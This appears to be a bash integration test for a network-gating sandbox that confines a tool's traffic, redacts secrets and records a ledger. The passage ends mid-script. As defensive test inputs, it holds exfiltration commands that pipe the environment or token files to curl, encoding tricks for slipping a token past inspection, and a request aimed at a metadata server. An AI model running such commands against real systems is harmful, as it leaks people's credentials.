#!/usr/bin/env bash
# check: slow timeout=200
# A contained run with its network: what a rule permits gets through whole, streamed and checked; what it does not is refused with words, and
# all is on record. Everything in a network namespace that has nothing but a loopback.
# shellcheck disable=SC2016 # scripts for the shell inside
set -u
cd "$(dirname "$0")/../.." || exit 2
. tests/lib/gate.sh
enter_network m
work=$(mktemp -d) || exit 2
export HOME=$work/home XDG_DATA_HOME=$work/data XDG_CONFIG_HOME=$work/config
mkdir -p "$HOME" "$work/project" "$work/stub"
trap 'kill $stub $stub2 ${proxy:-} 2>/dev/null; rm -rf "$work"' EXIT INT TERM
# A server with a certificate of an authority that only --trust knows, and one with a certificate of nobody.
certify "$work/stub" api.example.com other.example.com
mkdir "$work/stub2"
openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -keyout "$work/stub2/key.pem" -out "$work/stub2/cert.pem" -days 2 \
	-subj '/CN=api.example.com' -addext 'subjectAltName=DNS:api.example.com' 2>/dev/null
python3 tests/integration/gate_stub.py "$work/stub" 8443 >"$work/ready" 2>"$work/stub.err" &
stub=$!
python3 tests/integration/gate_stub.py "$work/stub2" 8444 >"$work/ready2" 2>"$work/stub.err2" &
stub2=$!
for _ in {1..100}; do
	[[ -s $work/ready && -s $work/ready2 ]] && break
	sleep 0.1
done

# gate OPTION... -- COMMAND...: output in out and err. The host is at the first server.
to=8443
gate() {
	(cd "$work/project" && timeout 60 "$P" run --trust "$work/ca.pem" --connect-to "api.example.com:443:127.0.0.1:$to" \
		--connect-to "other.example.com:443:127.0.0.1:$to" "$@") >"$work/out" 2>"$work/err" </dev/null
	code=$?
}
# The same with a script for the shell inside.
inside() { # SCRIPT [OPTION...]
	local script=$1
	shift
	gate --allow api.example.com "$@" -- bash -c "$script"
}

# ── what a rule permits ──
inside 'curl -sS https://api.example.com/hello?q=1'
check 'HTTP/2' has out '"path": "/hello?q=1"'
check 'its code' test "$code" = 0
inside 'curl -sS --http1.1 -H "X-Case: KeepMe" https://api.example.com/a'
check 'HTTP/1.1 with its headers' has out '["X-Case", "KeepMe"]'
inside 'curl -sS --http1.1 -H "Connection: x-hop" -H "X-Hop: 1" -H "X-Stays: 1" https://api.example.com/a'
check 'fields of one connection stay behind' bash -c "grep -q X-Stays '$work/out' && ! grep -qi x-hop '$work/out'"
head -c 300000 /dev/urandom >"$work/project/data"
sum=$(sha256sum <"$work/project/data" | cut -d ' ' -f 1)
inside 'curl -sS --data-binary @data https://api.example.com/up; curl -sS --http1.1 -H "Transfer-Encoding: chunked" --data-binary @data https://api.example.com/up'
check 'a body, sized and chunked' test "$(grep -c "\"size\": 300000, \"sha256\": \"$sum\"" "$work/out")" = 2
inside 'for v in --http2 --http1.1; do curl -sS $v https://api.example.com/big/50000000 | wc -c; done'
check '50 MB, both ways of HTTP' test "$(grep -c '^50000000$' "$work/out")" = 2
inside 'curl -sSN https://api.example.com/sse | while read -r d n t; do [[ $d == data: ]] && echo "$t $(date +%s.%N)"; done'
check 'events arrive as they are sent' awk '{sent[NR] = $1; came[NR] = $2} END {for (i = 1; i <= 4; i++) if (came[i] >= sent[i + 8]) late++; exit !(NR == 12 && !late)}' "$work/out"
inside 'curl -sS https://api.example.com/close; curl -sS -o /dev/null -w "%{http_code}\n" https://api.example.com/empty; curl -sS -I https://api.example.com/head'
check 'a reply until the end of its connection' has out 'until the end'
check 'a reply without a body' has out 204
inside 'for i in 1 2 3; do curl -sS https://api.example.com/then-close; sleep 0.1; done'
check 'a kept connection that the server closes' test "$(grep -c '^ok$' "$work/out")" = 3
: >"$work/stub/seen"
inside 'curl -sS https://api.example.com/first -o /dev/null; curl -sS https://api.example.com/dropped'
check 'a kept connection that ends without a reply: what may be repeated is' has out '"path": "/dropped"'
check 'the server saw it twice' test "$(grep -c '^GET /dropped' "$work/stub/seen")" = 2
: >"$work/stub/seen"
head -c 400000 /dev/zero | gzip >"$work/project/zeros.gz"
inside 'curl -sS https://api.example.com/first -o /dev/null; curl -sS -d x https://api.example.com/dropped
	curl -sS https://api.example.com/first -o /dev/null; curl -sS -T zeros.gz -H "content-encoding: gzip" https://api.example.com/dropped'
check 'what may not be repeated, or is not there any more, is not' test "$(grep -c 'before its reply was whole' "$work/out")" = 2
check 'the server saw that once' test "$(grep -c '/dropped' "$work/stub/seen")" = 2
inside 'curl -sS https://api.example.com/s[1-40] -Z --parallel-max 20'
check '40 at once' test "$(grep -c '"path": "/s' "$work/out")" = 40
inside 'curl -sS -x socks5h://10.9.9.9:1080 https://api.example.com/socks; curl -sS -x http://10.9.9.9:3128 https://api.example.com/connect'
check 'SOCKS5' has out /socks
check 'CONNECT' has out /connect
inside 'python3 - <<"X"
import base64, os, socket, ssl
s = ssl.create_default_context().wrap_socket(socket.create_connection(("api.example.com", 443)), server_hostname="api.example.com")
s.sendall(b"GET /ws HTTP/1.1\r\nHost: api.example.com\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: " + base64.b64encode(os.urandom(16)) + b"\r\n\r\n")
print(s.recv(4096).split(b"\r\n")[0].decode())
s.sendall(bytes([129, 128 + 5, 1, 2, 3, 4]) + bytes(x ^ (i % 4 + 1) for i, x in enumerate(b"hello")))
print(s.recv(100)[2:].decode())
X'
check 'WebSocket' has out hello

# ── what no rule permits ──
: >"$work/stub/seen"
inside 'curl -sS https://other.example.com/x'
check 'another host is refused' has out postern_denied
check 'and told' has err 'denied GET other.example.com:443/x'
check 'with the way out' has err '--allow other.example.com'
gate -- bash -c 'curl -sS https://api.example.com/'
check 'without a rule nothing is permitted' has out postern_denied
inside 'curl -sS http://api.example.com/'
check 'not without TLS' has out postern_denied
inside 'curl -sS -H "Host: other.example.com" https://api.example.com/; curl -sS --http1.1 -H "Host: other.example.com" https://api.example.com/'
check 'another Host' test "$(grep -c agreement "$work/out")" = 2
inside 'curl -sS --http1.1 -H "Host:" https://api.example.com/'
check 'no Host' has out 'has no Host'
inside 'curl -sS --connect-to ::other.example.com: https://api.example.com/; curl -sS --connect-to ::1.2.3.4: https://api.example.com/'
check 'another place' test "$(grep -c agreement "$work/out")" = 2
inside 'curl -sS -X TRACE https://api.example.com/; curl -sS -X CONNECT https://api.example.com/'
check 'TRACE' has out postern_denied
check 'CONNECT as a method inside' hasnt out '"path"'
inside 'curl -sS -m 5 telnet://api.example.com:22 <<<hello; echo "code $?"'
check 'bytes that are no protocol' hasnt out 'code 28'
inside 'timeout 5 bash -c "echo x >/dev/udp/9.9.9.9/443; sleep 0.2; echo y >/dev/udp/9.9.9.9/443"; python3 -c "
import socket, time
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(3); s.connect((\"9.9.9.9\", 443)); s.send(b\"x\")
t = time.time()
try: s.recv(10)
except ConnectionRefusedError: print(\"refused\", time.time() - t < 1)
"'
check 'datagrams are refused at once' has out 'refused True'
check 'nothing of that arrived' test ! -s "$work/stub/seen"
to=8444
inside 'curl -sS https://api.example.com/'
check 'a server that nobody vouches for' has out postern_upstream
check 'and why' has out 'self-signed'
to=1
inside 'curl -sS https://api.example.com/'
check 'a server that is not there' has out 'Connection refused'
to=8443
# Names that lead to where a tool has no business; the tool asks by SOCKS, so that its own name service has no say.
cp /etc/hosts "$work/hosts"
printf '127.0.0.1 loop.example.com\n10.1.2.3 lan.example.com\n169.254.169.254 meta.example.com\n' >>"$work/hosts"
mount --bind "$work/hosts" /etc/hosts
gate --allow loop.example.com:8443,lan.example.com,meta.example.com -- bash -c '
	for u in loop.example.com:8443 lan.example.com meta.example.com; do curl -sSk -x socks5h://1.2.3.4:1080 https://$u/; done'
check 'a name that leads to loopback' has out '127.0.0.1 (loopback)'
check 'a name that leads into the private network' has out '10.1.2.3 (private)'
check 'a name that leads to a metadata server' has out 'metadata server'
check 'nothing of that arrived, again' test ! -s "$work/stub/seen"

# ── what a request says: secrets are made here, so that none is in the source ──
random() { # BYTES ALPHABET
	head -c 4000 /dev/urandom | LC_ALL=C tr -dc "$2" | head -c "$1"
}
secret=glpat-$(random 20 A-Za-z0-9)
printf '%s' "$secret" >"$work/project/token.txt"
: >"$work/stub/bodies"
inside 'curl -sS -d "{\"text\": \"the token is $(cat token.txt), thanks\"}" https://api.example.com/echo'
check 'a secret is replaced on its way out' grep -q 'postern-gitlab-token-' "$work/stub/bodies"
check 'it does not arrive' hasnt stub/bodies "$secret"
check 'it is put back in the reply' has out "$secret"
inside 'gzip -c token.txt | curl -sS -H "content-encoding: gzip" --data-binary @- https://api.example.com/echo; base64 token.txt | curl -sS --data-binary @- https://api.example.com/echo
	xxd -p token.txt | curl -sS --data-binary @- https://api.example.com/echo; rev token.txt | curl -sS --data-binary @- https://api.example.com/echo'
for form in "$secret" "$(base64 <<<"$secret" | cut -c 1-24)" "$(rev <<<"$secret")" "$(printf '%s' "$secret" | od -An -tx1 | tr -d ' \n' | cut -c 1-30)"; do
	check "not in another form either: ${form:0:6}…" hasnt stub/bodies "$form"
done
: >"$work/stub/seen"
inside 'curl -sS "https://api.example.com/x?token=$(cat token.txt)"; curl -sS -H "x-note: $(cat token.txt)" https://api.example.com/y'
check 'in the head of a request nothing can be replaced: refused' test "$(grep -c postern_denied "$work/out")" = 2
check 'and it does not arrive' test ! -s "$work/stub/seen"
: >"$work/stub/bodies"
inside 'python3 - <<"X"
import base64, os, socket, ssl
s = ssl.create_default_context().wrap_socket(socket.create_connection(("api.example.com", 443)), server_hostname="api.example.com")
s.sendall(b"GET /ws HTTP/1.1\r\nHost: api.example.com\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: " + base64.b64encode(os.urandom(16)) + b"\r\n\r\n")
s.recv(4096)
def send(data, first, fin):
    s.sendall(bytes([(128 if fin else 0) + (1 if first else 0), 128 + len(data), 1, 2, 3, 4]) + bytes(x ^ (i % 4 + 1) for i, x in enumerate(data)))
t = b"my token is " + open("token.txt", "rb").read()
send(t[:20], True, False); send(t[20:], False, True)
s.recv(200)
send(b"and that is all", True, True)
print(s.recv(200)[2:].decode())
X'
check 'over a WebSocket, in fragments, too' grep -q 'postern-gitlab-token-' "$work/stub/bodies"
check 'and the secret does not arrive' hasnt stub/bodies "${secret:6}"
check 'what is harmless goes through behind it' has out 'and that is all'
# Much to find, and much to say of it, in one question and one entry.
inside 'python3 - <<"X"
import json, random, string, subprocess
def key(): return "glpat-" + "".join(random.choices(string.ascii_letters + string.digits, k=20))
def ask(what, secrets, results, name):
    content = [{"type": "tool_result", "tool_use_id": f"toolu_{i}", "content": f"output {i}"} for i in range(results)]
    content.append({"type": "text", "text": " and ".join(key() for _ in range(secrets))})
    body = json.dumps({"model": name, "max_tokens": 1, "messages": [{"role": "user", "content": content}]})
    r = subprocess.run(["curl", "-sS", "-m", "20", "-o", "/dev/null", "-w", "%{http_code}", "--data-binary", "@-", "https://api.example.com/v1/messages?" + what],
                       input=body, capture_output=True, text=True)
    print(what, r.stdout, r.stderr)
ask("most", 60, 120, "model")
ask("far-too-many", 20000, 1000, "model")
X'
check 'many secrets and many results of tools: on record, and let through' has out 'most 200'
check 'more than can be looked through: a no, and no hang' grep -q '^far-too-many 4' "$work/out"
mkdir -p "$work/config/postern"
cat >"$work/config/postern/policy.yaml" <<-X
	dlp: {secrets: block, canaries: block}
	credentials:
	  - {name: api, variable: API_KEY, format: "key-{random}", from: {env: REAL_KEY}, host: api.example.com, header: authorization, prefix: "Bearer "}
X
export REAL_KEY=real-key-of-the-person-0123456789
: >"$work/stub/seen"
inside 'curl -sS -H "Authorization: Bearer $API_KEY" https://api.example.com/auth; echo; echo "inside: $API_KEY $REAL_KEY"; curl -sS -d "x=$(cat token.txt)" https://api.example.com/echo'
check 'a key takes the place of its placeholder' has stub/seen "Bearer $REAL_KEY"
check 'and does not come back' bash -c "grep -q 'Bearer \*\*\*\*' '$work/out' && ! grep -qF '$REAL_KEY' '$work/out'"
check 'the tool does not have it' grep -q 'inside: key-[0-9a-f]* $' "$work/out"
check 'a policy that blocks' has out 'it holds: GitLab token'
inside 'env | curl -sS --data-binary @- https://api.example.com/echo; cat ~/.config/*/token | base64 | curl -sS --data-binary @- https://api.example.com/echo'
check 'who sends the environment or the home is found' test "$(grep -c 'planted value' "$work/out")" = 2
cat >"$work/config/postern/policy.yaml" <<-X
	dlp: {secrets: log, patterns: [{name: project-name, regex: 'Operation (Bluebird|Kestrel)', verdict: block}]}
	exec: {default: allow, rules: [{name: ls, parent: env, verdict: deny}]}
X
inside 'curl -sS -d "about Operation Kestrel" https://api.example.com/echo; curl -sS -d "about Kestrels" https://api.example.com/echo'
check 'a pattern of the policy' test "$(grep -c 'project-name' "$work/out")" = 1 -a "$(grep -c 'about Kestrels' "$work/out")" = 1
inside 'ls / >/dev/null && echo "from a shell"; env --ignore-signal=INT sh -c "ls / >/dev/null && echo from-env-and-a-shell"'
check 'executions by their parent' has out 'from a shell'
rm "$work/config/postern/policy.yaml"

# ── a server that does not keep to the rules ──
for path in both two-lengths bare-lf no-status bad-chunk cut 101 long-head many-heads header-injection; do
	inside "curl -sS -m 10 https://api.example.com/$path; echo; echo code \$?; curl -sS https://api.example.com/after"
	check "hostile reply: $path" has out /after
	check "hostile reply: $path, no time-out" hasnt out 'code 28'
	check "hostile reply: $path, nothing smuggled" hasnt out set-cookie
done
inside 'curl -sS https://api.example.com/extra https://api.example.com/next'
check 'what comes behind a reply is nobody'"'"'s' hasnt out evil

# ── a person at the terminal ──
cat >"$work/person.py" <<'X'
# usage: person.py ANSWER COMMAND...: runs it at a pseudo-terminal, and types ANSWER when it is asked; prints all that was on the screen.
import os, pty, select, sys, time
pid, fd = pty.fork()
if pid == 0:
    os.execvp(sys.argv[2], sys.argv[2:])
out, asked, end = b"", 0, time.time() + 40
while time.time() < end:
    r, _, _ = select.select([fd], [], [], 1)
    if not r:
        continue
    try:
        d = os.read(fd, 65536)
    except OSError:
        break
    out += d
    if out.count(b"(not in this run)? ") > asked:
        asked += 1
        os.write(fd, sys.argv[1].encode() + b"\n")
sys.stdout.buffer.write(out)
print("questions:", asked, "code:", os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1]))
X
at_terminal() { # ANSWER SCRIPT [OPTION...]
	local answer=$1 script=$2
	shift 2
	(cd "$work/project" && timeout 60 python3 "$work/person.py" "$answer" "$P" run --trust "$work/ca.pem" --connect-to "api.example.com:443:127.0.0.1:$to" \
		"$@" -- bash -c "$script") >"$work/out" 2>"$work/err" </dev/null
}
at_terminal y 'for i in 1 2; do curl -sS https://api.example.com/$i; echo; done' --ask
check 'yes, once, each time' test "$(grep -c '"path"' "$work/out")" = 2
check 'asked twice' has out 'questions: 2'
at_terminal r 'for i in 1 2; do curl -sS https://api.example.com/$i; echo; done' --ask
check 'yes, for this run' test "$(grep -c '"path"' "$work/out")" = 2
check 'asked once' has out 'questions: 1'
at_terminal never 'for i in 1 2; do curl -sS https://api.example.com/$i; echo; done' --ask
check 'never' test "$(grep -c '{"type":"error"' "$work/out")" = 2
check 'asked once for that' has out 'questions: 1'
inside 'curl -sS https://other.example.com/x' --ask
check 'without a terminal there is nobody to ask' has out 'nobody to ask'
mkdir -p "$work/config/postern"
echo 'exec: {default: allow, rules: [{name: ls, verdict: ask, reason: it looks around}]}' >"$work/config/postern/policy.yaml"
at_terminal y 'ls -d /usr; ls -d /etc'
check 'executions are asked about, each time' has out 'questions: 2'
check 'with what they are given' has out 'run /usr/bin/ls -d /etc'
check 'and run' has out /etc
at_terminal r 'ls -d /usr; cp /bin/ls mine; ./mine -d /etc; rm mine'
check 'an answer for the run holds for the content' has out 'questions: 1'
at_terminal n 'ls -d /usr; echo "code $?"'
check 'no is no' has out 'code 126'
inside 'ls -d /usr; echo "code $?"'
check 'nobody to ask is no' has out 'code 126'
"$P" log show --limit 100000 --format json "$work/data/postern/ledger" >"$work/out" 2>"$work/err"
check 'on record: the answer, the rule, who wanted it' test "$(jq -c 'select(.entry.class_uid == 1007) | [.entry.unmapped.postern.run.reason, .entry.process.name]' "$work/out" | sort -u | grep -c '"ls"')" -ge 3
jq -r 'select(.entry.process.name == "ls") | .entry.process.parent_process.file.path' "$work/out" >"$work/parents"
check 'the parent' grep -qx "$(realpath /bin/bash)" "$work/parents"
rm "$work/config/postern/policy.yaml"
at_terminal y 'stty size; tty; printf "\033]52;c;aGVsbG8=\007clip\n"; test -t 0 && echo is-a-terminal'
check 'a terminal of its own' has out is-a-terminal
check 'the clipboard is not written' hasnt out '52;c;'
check 'what is around it is there' has out clip

# ── learning ──
inside 'curl -sS https://api.example.com/v1/models https://api.example.com/v1/models/a' --learn "$work/learned.yaml"
gate --policy "$work/learned.yaml" -- bash -c 'curl -sS https://api.example.com/v1/models; curl -sS -X DELETE https://api.example.com/v1/models'
check 'what was learned permits the same' has out '"path": "/v1/models"'
check 'and no more' has out postern_denied

# ── behind a proxy ──
cat >"$work/proxy.py" <<'X'
# usage: proxy.py PORT TO LOG: CONNECT for user "u" and password "p w", always to 127.0.0.1:TO. A host "dead" hears nothing, "no" a 403.
import base64, socket, sys, threading
def pump(a, b):
    try:
        while d := a.recv(65536): b.sendall(d)
    except OSError: pass
    for s in a, b:
        try: s.shutdown(socket.SHUT_RDWR)
        except OSError: pass
def serve(c):
    head = b""
    while b"\r\n\r\n" not in head:
        d = c.recv(1)
        if not d: return
        head += d
    with open(sys.argv[3], "ab") as f: f.write(head)
    if base64.b64encode(b"u:p w") not in head: return c.sendall(b"HTTP/1.1 407 Proxy Authentication Required\r\ncontent-length: 0\r\n\r\n")
    if b"no.example" in head: return c.sendall(b"HTTP/1.1 403 Forbidden\r\n\r\n")
    o = socket.create_connection(("127.0.0.1", int(sys.argv[2])))
    c.sendall(b"HTTP/1.1 200 OK\r\n"); c.sendall(b"\r\n")
    threading.Thread(target=pump, args=(c, o), daemon=True).start()
    pump(o, c)
l = socket.create_server(("127.0.0.1", int(sys.argv[1])))
print("ready", flush=True)
while True:
    threading.Thread(target=serve, args=(l.accept()[0],), daemon=True).start()
X
python3 "$work/proxy.py" 3128 8443 "$work/proxied" >"$work/ready3" 2>/dev/null &
proxy=$!
for _ in {1..100}; do
	[[ -s $work/ready3 ]] && break
	sleep 0.1
done
behind() { # SCRIPT [OPTION...]
	local script=$1
	shift
	(cd "$work/project" && timeout 60 "$P" run --trust "$work/ca.pem" --allow api.example.com,no.example.com,localhost,10.1.2.3 "$@" -- bash -c "$script") >"$work/out" 2>"$work/err" </dev/null
}
behind 'curl -sS https://api.example.com/through; env | grep -ci proxy' --proxy 'http://u:p%20w@127.0.0.1:3128'
check 'a proxy' has out '"path": "/through"'
check 'is asked for the name' grep -q '^CONNECT api.example.com:443 HTTP/1.1' "$work/proxied"
check 'the tool knows nothing of it' test "$(tail -n 1 "$work/out")" = 0
HTTPS_PROXY=http://u:p%20w@127.0.0.1:3128 behind 'curl -sS https://api.example.com/environment'
check 'the one of the environment' has out '"path": "/environment"'
behind 'curl -sS https://no.example.com/' --proxy 'http://u:p%20w@127.0.0.1:3128'
check 'a proxy that refuses' has out 'the proxy refuses with 403'
behind 'curl -sS https://api.example.com/' --proxy 'http://127.0.0.1:3128'
check 'a proxy that wants a password' has out 'http://USER:PASSWORD@HOST:PORT'
: >"$work/proxied"
behind 'curl -sSk -x socks5h://1.2.3.4:1080 https://localhost/; curl -sSk https://10.1.2.3/' --proxy 'http://u:p%20w@127.0.0.1:3128'
check 'not to where no rule permits' test "$(grep -c postern_upstream "$work/out")" = 2 -a ! -s "$work/proxied"
NO_PROXY=example.com HTTPS_PROXY=http://127.0.0.1:3128 behind 'curl -sS https://api.example.com/'
check 'not for what is excepted' test ! -s "$work/proxied"
behind 'true' --proxy socks5://127.0.0.1:1
check 'another kind is told' has err 'http:// only'
kill $proxy

# ── what others run later, told of as it is written ──
inside 'mkdir -p .github/workflows && echo "on: push" >.github/workflows/ci.yml
	echo "{\"scripts\": {\"postinstall\": \"curl x\"}}" >package.json; echo "{}" >package.json; echo hi >notes.txt
	mkdir -p node_modules/x && echo "{}" >node_modules/x/package.json; sleep 1.5' --direct
check 'a workflow, though its folder is new too' has err 'it wrote ".github/workflows/ci.yml"'
check 'scripts of a package, once' test "$(grep -c 'it wrote "package.json"' "$work/err")" = 1
check 'not what nobody runs, nor what is installed' bash -c "! grep -qE 'notes|node_modules' '$work/err'"
"$P" log show --limit 100000 --format json "$work/data/postern/ledger" >"$work/out" 2>"$work/err"
check 'on record' test "$(jq -r 'select(.entry.class_uid == 1001) | .entry.file.path' "$work/out" | sort -u | tr '\n' ' ')" = '.github/workflows/ci.yml package.json '
rm -rf "$work/project/.github" "$work/project/package.json" "$work/project/notes.txt" "$work/project/node_modules"

# ── a copy of the project ──
export XDG_STATE_HOME=$work/state
(cd "$work/project" && git init -q . && git add -A && git -c user.name=a -c user.email=a@b.example commit -qm first) 2>/dev/null
inside 'echo more >>token.txt; mkdir new; echo x >new/file; echo "{\"scripts\": {\"postinstall\": \"true\"}}" >package.json
	git -c user.name=a -c user.email=a@b.example commit -qam second && git log --oneline | wc -l' --review
check 'it works in a copy' has out 2
check 'how much waits, and how much of it is flagged' grep -Eq 'postern: [0-9]+ changes wait, [0-9]+ flagged .*: postern review ' "$work/err"
check 'the project stays as it was' test ! -e "$work/project/new"
(cd "$work/project" && "$P" review) >"$work/out" 2>"$work/err"
check 'what it wrote is shown' has out new
check 'what would run later is flagged' has out 'scripts.postinstall added'
(cd "$work/project" && "$P" review --ledger none --apply all --except package.json) >"$work/out" 2>"$work/err"
check 'and comes into the project' test -e "$work/project/new/file" -a ! -e "$work/project/package.json"
check 'whole' bash -c "cd '$work/project' && git fsck --strict 2>&1 && [[ \$(git log --oneline | wc -l) == 2 ]]"

inside 'true' --review
check 'what has changed nothing leaves nothing to review' has err 'It changed nothing in the project.'

# ── what was said, on record ──
printf '%s' "$secret" >"$work/project/token.txt"
echo "ledger: {folder: $work/bodies, bodies: keep}" >"$work/config/postern/policy.yaml"
inside 'curl -sS -d "{\"model\": \"m\", \"messages\": [{\"role\": \"user\", \"content\": \"plans of $(cat token.txt)\"}]}" https://api.example.com/v1/messages
	curl -sS -T data https://api.example.com/plain -o /dev/null'
"$P" log show --format json "$work/bodies" >"$work/out" 2>"$work/err"
mapfile -t blobs < <(jq -r '.entry.unmapped.blobs[0].id // empty' "$work/out")
check 'requests, and the reply of a model' test "${#blobs[@]}" = 3
for i in 0 1 2; do "$P" log get "$work/bodies" "${blobs[i]:-}" >"$work/body$i" 2>>"$work/err"; done
check 'the prompt' grep -q '"plans of postern-gitlab-token-' "$work/body0"
check 'the secret in it is not kept' hasnt body0 "$secret"
check 'what the model said' has body1 '"path": "/v1/messages"'
check 'any other body' cmp -s "$work/body2" "$work/project/data"
check 'no digest that tells what was erased' hasnt out body_sha256
entry=$(jq -r 'select(.entry.unmapped.blobs != null) | .index' "$work/out" | head -n 1)
"$P" log erase "$work/bodies" "$entry" >"$work/out" 2>"$work/err"
check 'a body can go' test $? = 0
"$P" log get "$work/bodies" "${blobs[0]:-}" >"$work/out" 2>"$work/err"
check 'and is gone' test $? != 0 -a ! -s "$work/out"
"$P" log verify "$work/bodies" >"$work/out" 2>"$work/err"
check 'and the record holds' test $? = 0
echo "{ledger: {folder: $work/none, bodies: none}}" >"$work/config/postern/policy.yaml"
inside 'curl -sS -d hello https://api.example.com/up'
"$P" log show --format json "$work/none" >"$work/out" 2>"$work/err"
check 'nothing of bodies, where the policy wants that' test "$(grep -c http_request "$work/out")$(grep -c 'body_sha256\|blobs' "$work/out")" != 00 -a "$(grep -c 'body_sha256\|blobs' "$work/out")" = 0

# ── limits over all requests ──
limited() { # LIMITS SCRIPT
	echo "{limits: {$1}, network: [{host: api.example.com}, {host: other.example.com, opaque: true}]}" >"$work/config/postern/policy.yaml"
	gate -- bash -c "$2"
}
limited 'sent_bytes: 2500' 'for i in 1 2 3; do head -c 1000 data | curl -sS --data-binary @- https://api.example.com/up; echo; done'
check 'bytes sent by a run: two of three' test "$(grep -c '"size": 1000' "$work/out")" = 2
check 'the third is refused, by name' has out 'limits: sent_bytes'
: >"$work/stub/seen"
limited 'sent_bytes: 20000' 'head -c 300000 data | curl -sSk -m 20 --data-binary @- https://other.example.com/up; echo "code $?"; curl -sSk -m 20 https://other.example.com/two; echo "code $?"'
check 'bytes that are passed through: cut in the middle' test "$(grep -c 'code 0' "$work/out")" = 0
check 'the server has no whole request' test ! -s "$work/stub/seen"
limited 'request_bytes: 1000' 'for n in 1000 1001; do head -c $n data | curl -sS --data-binary @- https://api.example.com/up; echo; done'
check 'bytes of a request' test "$(grep -c '"size": 1000' "$work/out")$(grep -c 'limits: request_bytes' "$work/out")" = 11
limited 'requests_per_minute: 3' 'for i in 1 2 3 4 5; do curl -sS https://api.example.com/$i; done'
check 'requests a minute' test "$(grep -c '"path"' "$work/out")$(grep -o 'limits: requests_per_minute' "$work/out" | wc -l)" = 32
limited 'connections: 2' 'curl -sS -Z --parallel-immediate "https://api.example.com/sse?"[1-5]; curl -sS https://api.example.com/afterwards'
check 'at once' test "$(grep -o 'limits: connections' "$work/out" | wc -l)" = 3
check 'afterwards there is room again' has out '/afterwards'
limited 'cpu_seconds: 2' 'for i in {1..20}; do timeout 0.5 sh -c "while :; do :; done"; done'
check 'processor time, of processes that have ended too' test "$code" = 124
check 'and why' has err 'processor time (cpu_seconds)'
rm "$work/config/postern/policy.yaml"

# ── a policy that changes while a tool runs ──
policy=$work/config/postern/policy.yaml
echo 'network: [{host: other.example.com}]' >"$policy"
# As it is asked for from inside, by files in the project.
once() { # FILE
	for _ in {1..300}; do
		[[ -e $work/project/$1 ]] && return
		sleep 0.1
	done
}
(
	once step1
	echo 'network: [{host: api.example.com}]' >"$policy.new" && mv "$policy.new" "$policy"
	once step2
	echo 'network: [{host: ' >"$policy"
	echo 'network: [{host: other.example.com}]' >"$work/project/.postern.yaml"
) &
editor=$!
gate -- bash -c 'ask() { curl -sS https://$1.example.com/$2 | grep -oE "postern_denied|\"path\": \"[^\"]*\""; }
	ask api one; ask other two; touch step1
	for i in {1..100}; do curl -sS https://api.example.com/x | grep -q path && break; sleep 0.2; done
	ask api three; ask other four; touch step2; sleep 4; ask api five; ask other six'
wait $editor
rm -f "$work/project/step1" "$work/project/step2"
check 'before, and after, and what cannot be used changes nothing' test "$(tr '\n' ' ' <"$work/out")" = 'postern_denied "path": "/two" "path": "/three" postern_denied "path": "/five" postern_denied '
check 'the person is told' has err 'the policy has changed, and holds from here on'
check 'and why not' has err 'the old one holds on: '
rm -f "$policy" "$work/project/.postern.yaml"
"$P" log show --limit 100000 --format json "$work/data/postern/ledger" >"$work/out" 2>"$work/err"
check 'on record: which policy held when' test "$(jq -r 'select(.entry.message == "another policy holds from here on") | .entry.unmapped.postern.run.policy_before, .entry.policy.uid' "$work/out" | sort -u | wc -l)" = 2

# ── where the record goes ──
gate --ledger none -- true
check 'without anybody'"'"'s word the record can be left out' test "$code" = 0
gate --ledger elsewhere -- true
check 'a folder of the command line, from where it is typed' test -s "$work/project/elsewhere/checkpoint"
echo 'ledger: {folder: ~/mine, required: false}' >"$work/config/postern/policy.yaml"
gate -- true
check 'a folder of the person' test "$code" = 0 -a -s "$work/home/mine/checkpoint"
echo 'ledger: {folder: /proc/nowhere, required: false}' >"$work/config/postern/policy.yaml"
gate -- true
check 'a record that may be missing' test "$code" = 0
check 'and the person is told' has err 'nothing of this run is on record'
echo 'ledger: {folder: /proc/nowhere}' >"$work/config/postern/policy.yaml"
gate -- true
check 'a record that may not' test "$code" = 125
rm "$work/config/postern/policy.yaml"
# An organisation: its file is in /etc, which is another here.
mkdir "$work/etc"
cp -a /etc/. "$work/etc" 2>/dev/null
mkdir -p "$work/etc/postern"
printf 'organisation: example.com\nversion: 1\nledger: {required: true, folder: %s}\n' "$work/theirs" >"$work/etc/postern/policy.yaml"
mount --bind "$work/etc" /etc
# For root it is remembered there which version was seen last.
[[ -d /var/lib/postern ]] || mkdir -p /var/lib/postern 2>/dev/null
mkdir "$work/state-of-root" && mount --bind "$work/state-of-root" /var/lib/postern 2>/dev/null
gate --ledger none -- true
check 'an organisation that wants a record gets one' test "$code" = 2 -a ! -e "$work/theirs"
check 'and the person reads whose word it is' has err '/etc/postern/policy.yaml:3 (organisation): the record is required'
(once started && rm "$work/etc/postern/policy.yaml") &
gate -- bash -c 'touch started; sleep 4'
rm -f "$work/project/started"
check 'an organisation whose policy goes away still holds' has err 'the policy of the organisation is not there any more'
printf 'organisation: example.com\nversion: 1\nledger: {required: true, folder: %s}\n' "$work/theirs" >"$work/etc/postern/policy.yaml"
gate --ledger elsewhere2 -- true
check 'where it says' test "$code" = 0 -a -s "$work/theirs/checkpoint" -a ! -e "$work/project/elsewhere2"
# Something that a run has left may still be looking at a file there.
umount -l /etc
umount -l /var/lib/postern 2>/dev/null

# ── the end ──
gate --no-network -- bash -c 'sleep 1; ip -o link; curl -sS -m 3 https://api.example.com/ || echo "code $?"'
check 'without a network it goes on' has out 'code 6'
check 'and nothing is said to have gone' hasnt err 'has gone'
inside 'exit 7'
check 'the exit code' test "$code" = 7
inside 'kill -TERM $$'
check 'the exit code of a signal' test "$code" = 143
gate -- /no/such/program
check 'no such program' test "$code" = 127
gate --timeout 1 -- sleep 30
check 'a limit of time' test "$code" = 124
(cd "$work/project" && exec "$P" run -- sleep 300) >"$work/out" 2>"$work/err" </dev/null &
pid=$!
sleep 1.5
kill -TERM $pid
for _ in {1..50}; do
	kill -0 $pid 2>/dev/null || break
	sleep 0.1
done
check 'an interrupt ends it' bash -c "! kill -0 $pid 2>/dev/null"
(cd "$work/project" && exec "$P" run -- bash -c 'sleep 301 & sleep 302') >"$work/out" 2>"$work/err" </dev/null &
pid=$!
